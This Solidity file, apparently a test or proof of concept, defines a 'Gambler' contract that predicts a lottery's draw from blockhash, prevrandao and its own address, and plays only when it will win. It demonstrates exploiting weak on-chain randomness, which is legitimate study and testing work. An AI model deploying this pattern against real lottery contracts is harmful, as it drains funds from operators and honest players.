// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Lottery} from "../src/Lottery.sol";

contract Gambler {
    function playIfItWins(Lottery lottery) external payable returns (bool played) {
        uint256 draw = uint256(keccak256(abi.encode(blockhash(block.number - 1), block.prevrandao, address(this))));
        if (draw % 10 != 0) return false;
        require(lottery.play{value: lottery.TICKET()}(), "prediction was wrong");
        return true;
    }

    receive() external payable {}
}
